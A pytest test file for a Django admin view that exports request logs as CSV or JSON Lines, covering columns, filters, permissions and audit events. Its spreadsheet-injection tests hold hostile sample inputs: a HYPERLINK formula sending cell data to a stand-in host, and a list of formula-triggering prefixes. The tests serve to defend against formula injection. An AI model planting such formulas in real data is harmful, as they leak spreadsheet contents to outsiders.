"""The request log as a file: whole, exact, harmless to a spreadsheet, and told of in the audit log."""

import csv
import io
import json
import zlib
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any
from uuid import UUID

import pytest
from django.contrib.auth.models import Permission, User
from django.db import OperationalError
from django.http import HttpResponseBase
from django.test import Client
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from audit.models import AuditEvent
from logs.asking import queries
from logs.asking.export import COLUMNS, CSV_HEAD, cell, csv_lines, json_line, json_lines
from logs.ids import new_id
from logs.models import LogBody, RequestLog
from logs.partitions import lowest_id

pytestmark = pytest.mark.django_db(databases=["default", "logs"])

EXPORT = "/admin/logs/requestlog/export/"
FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"look")'


def call(**facts: Any) -> RequestLog:
    usual = {"id": new_id(), "created_at": timezone.now(), "outcome": "finished", "status": 200}
    return RequestLog.objects.create(**usual | facts)


def exported(client: Client, **query: str) -> HttpResponseBase:
    return client.get(EXPORT, query)


def content(answer: HttpResponseBase) -> bytes:
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)


def table(client: Client, **query: str) -> list[dict[str, str]]:
    text = content(exported(client, **{"as": "csv"} | query)).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def objects(client: Client, **query: str) -> list[dict[str, Any]]:
    lines = content(exported(client, **{"as": "jsonl"} | query)).splitlines()
    return [json.loads(line, parse_float=Decimal) for line in lines]


# What a row looks like.


def test_a_row_of_csv_tells_every_column_of_the_table(admin_client):
    at = datetime(2026, 11, 22, 12, 0, 0, 5000, tzinfo=UTC)
    log = call(
        created_at=at,
        model="gpt-4o",
        stream=True,
        input_tokens=12,
        cost=Decimal("0.000000000001"),
        total_ms=12.5,
        metadata={"team": "search", "_user": "ü"},
        config="pc-main-1",
        rescued=True,
        skipped=["config.targets[0]"],
        cache_age=12.5,
    )
    (row,) = table(admin_client)
    assert tuple(row) == COLUMNS == tuple(field.attname for field in RequestLog._meta.concrete_fields)
    assert (row["id"], row["created_at"]) == (str(log.id), "2026-11-22T12:00:00.005000Z")
    assert (row["model"], row["stream"], row["status"], row["input_tokens"]) == (
        "gpt-4o",
        "true",
        "200",
        "12",
    )
    assert (row["cost"], row["total_ms"], row["first_byte_ms"]) == ("0.000000000001", "12.5", "")
    assert (row["rescued"], row["config"], row["cache_age"]) == ("true", "pc-main-1", "12.5")
    assert json.loads(row["skipped"]) == ["config.targets[0]"]
    assert json.loads(row["metadata"]) == {"team": "search", "_user": "ü"}


def test_a_line_of_json_has_types(admin_client):
    log = call(cost=Decimal("0.10"), stream=True, metadata={"team": "search"}, attempts=[{"status": 200}])
    (row,) = objects(admin_client)
    assert tuple(row) == COLUMNS
    assert (row["id"], row["status"], row["stream"]) == (str(log.id), 200, True)
    assert (row["cost"], row["first_byte_ms"], row["cost_first"]) == (Decimal("0.1"), None, None)
    assert (row["metadata"], row["attempts"]) == ({"team": "search"}, [{"status": 200}])
    assert datetime.fromisoformat(row["created_at"]) == log.created_at


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        "\ufe661",
        "\u22121",
        "'=1",
    ],
)
def test_what_a_spreadsheet_might_work_out_is_text(text):
    assert cell(text) == f"'{text}"
    assert cell([text]).startswith("[")


@pytest.mark.parametrize("text", ["gpt-4o", "", "Ünal", "日本", "1e3", "/v1/chat", "_user", "{}"])
def test_ordinary_text_stays_as_it_is(text):
    assert cell(text) == text


@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=20), min_size=3, max_size=3))
def test_no_cell_begins_like_a_formula_and_every_text_is_had_back(texts):
    names = ("model", "trace_id", "error_message")
    log = RequestLog(
        id=new_id(), created_at=datetime(2026, 1, 1, tzinfo=UTC), **dict(zip(names, texts, strict=True))
    )
    written = (CSV_HEAD + csv_lines([log])).decode("utf-8-sig")
    head, cells = csv.reader(io.StringIO(written, newline=""), strict=True)
    assert not any(each[:1] in tuple("=+-@\t\r\n \uff1d\uff0b\uff0d\uff20") for each in cells if each)
    row = dict(zip(head, cells, strict=True))
    assert [row[name].removeprefix("'") for name in names] == [text.replace("\0", "\ufffd") for text in texts]


def test_what_is_no_text_is_shown_as_such():
    log = RequestLog(
        id=new_id(),
        created_at=timezone.now(),
        model="a\0b\ud800",
        metadata={"half \udc00": "\0"},
        ignored=[2**70],
    )
    told = json.loads(json_line(log))
    assert (told["model"], told["metadata"], told["ignored"]) == (
        "a\ufffdb\ufffd",
        {"half \ufffd": "\ufffd"},
        [str(2**70)],
    )
    assert "a\ufffdb\ufffd" in csv_lines([log]).decode()


def test_lines_of_json_are_told_apart_by_line_feeds_alone():
    logs = [RequestLog(id=new_id(), created_at=timezone.now(), model="a\nb\r\u2028c") for _ in range(3)]
    lines = json_lines(logs).decode().split("\n")
    assert [json.loads(line)["model"] for line in lines[:-1]] == ["a\nb\r\u2028c"] * 3
    assert lines[-1] == ""


# Which rows.


def test_what_is_filtered_is_exported_newest_first_and_nothing_else(admin_client):
    calls = [call(model=f"model-{number % 3}") for number in range(30)]
    wanted = [str(log.id) for log in calls if log.model == "model-1"][::-1]
    assert [row["id"] for row in table(admin_client, model="model-1")] == wanted
    assert [row["id"] for row in objects(admin_client, model="model-1")] == wanted
    assert table(admin_client, model="none") == objects(admin_client, model="none") == []


def test_a_long_export_goes_on_where_a_batch_ended(admin_client):
    now = timezone.now()
    ids = sorted(new_id() for _ in range(345))
    RequestLog.objects.bulk_create(RequestLog(id=each, created_at=now, outcome="finished") for each in ids)
    assert [row["id"] for row in table(admin_client)] == ids[::-1]


def test_the_span_is_that_of_the_list_unless_one_is_asked_for(admin_client):
    old = datetime.now(UTC) - timedelta(days=3)
    call(id=aged(old), created_at=old, model="old")
    call(model="new")
    assert [row["model"] for row in table(admin_client)] == ["new"]
    assert [row["model"] for row in table(admin_client, span="7d")] == ["new", "old"]
    until = (old + timedelta(days=1)).isoformat()
    answer = exported(admin_client, since=old.isoformat(), until=until, **{"as": "csv"})
    name = f"calls-{old:%Y-%m-%dT%H%MZ}-to-{old + timedelta(days=1):%Y-%m-%dT%H%MZ}.csv"
    assert answer["Content-Disposition"] == f'attachment; filename="{name}"'
    assert b"old" in content(answer)


def aged(at: datetime) -> str:
    """An id of that time."""
    return str(UUID(int=lowest_id(at).int | UUID(new_id()).int % (1 << 80)))


@pytest.mark.parametrize(
    "query, named",
    [
        ({"as": "csv", "status": "abc"}, "status"),
        ({"as": "jsonl", "since": "yesterday"}, "since"),
        ({"as": "xlsx"}, "as=csv"),
        ({}, "as=csv"),
        ({"as": "csv", "bodies": "yes"}, "as=jsonl"),
    ],
)
def test_a_query_that_cannot_be_read_is_answered_in_words(admin_client, query, named):
    answer = exported(admin_client, **query)
    assert (answer.status_code, answer["Content-Type"]) == (400, "text/plain; charset=utf-8")
    assert named in answer.content.decode()
    assert not AuditEvent.objects.filter(action="export").exists()


def test_bodies_come_with_their_rows_where_they_are_asked_for(admin_client):
    log, bare = call(), call()
    for kind, text in (("request", b'{"a": "\xc3\xbc"}'), ("response", b"\xff\x00")):
        LogBody.objects.create(
            log=log.id, kind=kind, content=zlib.compress(text), size=9, cut=kind == "request"
        )
    rows = {row["id"]: row.get("bodies") for row in objects(admin_client, bodies="yes")}
    assert rows[str(bare.id)] == {}
    assert rows[str(log.id)] == {
        "request": {"text": '{"a": "ü"}', "size": 9, "cut": True},
        "response": {"text": "\ufffd\ufffd", "size": 9, "cut": False},
    }
    assert "bodies" not in objects(admin_client)[0]


# Who may, and what is left of it.


def test_who_may_see_the_log_may_export_it_and_nobody_else(client):
    someone = User.objects.create_user("someone", password="x", is_staff=True)
    client.force_login(someone)
    assert exported(client, **{"as": "csv"}).status_code == 403
    someone.user_permissions.add(Permission.objects.get(codename="view_requestlog"))
    assert exported(client, **{"as": "csv"}).status_code == 200
    assert client.post(f"{EXPORT}?as=csv").status_code in (403, 405)
    client.logout()
    assert exported(client, **{"as": "csv"})["Location"].startswith("/admin/login/")


def events() -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action="export").order_by("id"))


def test_an_export_leaves_who_asked_for_what_and_how_many_rows_left(admin_client):
    for _ in range(3):
        call(model="m")
    answer = exported(admin_client, **{"as": "csv", "model": "m", "span": "all"})
    (begun,) = events()
    assert (begun.actor, begun.address, begun.object_kind) == ("admin", "127.0.0.1", "request_log")
    assert begun.changes == {
        "query": [None, "model=m&span=all"],
        "as": [None, "csv"],
        "bodies": [None, False],
    }
    content(answer)
    begun, ended = events()
    assert (ended.actor, ended.address, ended.object_id) == ("admin", "127.0.0.1", begun.object_id)
    assert ended.changes == {"rows": [None, 3], "whole": [None, True]}
    assert str(ended) == "admin exported the request log the beginning to now: 3 calls, all of them"


def test_a_client_that_leaves_ends_the_export(admin_client):
    for _ in range(250):
        call()
    answer = exported(admin_client, **{"as": "jsonl"})
    pieces = iter(answer.streaming_content)
    while not next(pieces):
        pass
    answer.close()
    ended = events()[-1]
    assert ended.changes["whole"] == [None, False]
    assert 0 < ended.changes["rows"][1] < 250


def test_what_goes_wrong_on_the_way_is_no_good_end(admin_client, monkeypatch):
    def failing(*_: Any) -> Iterator[list[RequestLog]]:
        yield [call()]
        raise OperationalError("the database went away")

    monkeypatch.setattr(queries, "batches", failing)
    answer = exported(admin_client, **{"as": "csv"})
    with pytest.raises(OperationalError):
        content(answer)
    assert events()[-1].changes == {"rows": [None, 1], "whole": [None, False]}


def test_an_export_is_kept_by_no_cache(admin_client):
    answer = exported(admin_client, **{"as": "jsonl"})
    assert "no-store" in answer["Cache-Control"]
    assert answer["Content-Type"] == "application/jsonl; charset=utf-8"
    content(answer)
